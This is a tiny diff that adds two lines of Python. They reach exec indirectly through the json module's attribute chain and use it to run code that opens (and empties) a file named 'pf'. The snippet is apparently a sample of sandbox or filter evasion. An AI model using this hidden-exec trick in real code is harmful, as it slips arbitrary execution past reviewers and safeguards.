@@ -1,0 +1,2 @@
+import json
+json.codecs.builtins.exec("open('pf','w')")
